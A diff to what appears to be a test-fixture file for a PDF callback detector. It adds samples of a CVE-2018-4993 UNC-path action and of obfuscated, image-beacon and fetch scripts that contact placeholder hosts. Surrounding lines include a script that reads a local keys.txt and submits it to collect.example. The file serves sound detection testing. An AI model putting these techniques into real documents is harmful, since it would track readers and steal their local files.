@@ -76,6 +76,9 @@ export const CALLBACK_FIXTURES: TechniqueFixtures = {
     "thread-remote": () => letter({ page: `/AA << /O << /S /Thread /F ${urlSpec("https://docs.example/articles.pdf")} /D 0 >> >>` }),
     "importdata-remote": () => letter({ catalog: `${FORM} /OpenAction << /S /ImportData /F ${urlSpec("https://collect.example/prefill.fdf")} >>` }),
     "gotoe-remote": () => letter({ catalog: `/OpenAction << /S /GoToE /F ${urlSpec("https://docs.example/package.pdf")} /T << /R /C /N (invoice.pdf) >> /D [0 /Fit] >>` }),
+    // CVE-2018-4993 as a generator writes it (jonaslejon/malicious-pdf test1): the UNC path escaped once
+    // too few, so the viewer reads `\203.0.113.9<tab>est`, a path from the drive's root opened as the page opens
+    "page-open-gotoe-absolute-path": () => letter({ page: `/AA << /O << /S /GoToE /F (\\\\203.0.113.9\\test) /D [0 /Fit] >> >>` }),
     // no action at all: the image's data lives at a web address the viewer fetches to draw the page
     "external-stream-url": () =>
       letter({
@@ -95,6 +98,11 @@ export const CALLBACK_FIXTURES: TechniqueFixtures = {
     mailDoc: () => documentScript('this.mailDoc({bUI: false, cTo: "drop@collect.example", cSubject: "statement"});'),
     importDataObject: () => openScript('this.importDataObject("keys", "/c/Users/Public/Documents/keys.txt");'),
     readFileIntoStream: () => documentScript('var s = util.readFileIntoStream("/c/Users/Public/Documents/keys.txt", true); this.submitForm({cURL: "https://collect.example/f?" + util.stringFromStream(s)});'),
+    // the calls as computed members (jonaslejon/malicious-pdf --obfuscate 2 writes every call this way)
+    "computed-member-call": () => openScript('this["getURL"]("https://track.example/pixel", false); app["media"]["getURLData"]("https://track.example/a.mp3", "audio/mp3");'),
+    // the web platform's beacons, for viewers that run document scripts in a browser (PDF101)
+    "image-src-beacon": () => openScript('var img = new Image(1, 1); img.src = "https://track.example/pixel.gif?d=" + this.documentFileName;'),
+    "web-fetch": () => openScript('fetch("https://track.example/f?d=" + escape(this.documentFileName));'),
     "xfa-host-gotourl": () => xfaForm(`<event activity="initialize"><script contentType="application/x-javascript">xfa.host.gotoURL("https://track.example/xfa");</script></event>`),
   },
   "xfa-callback": {
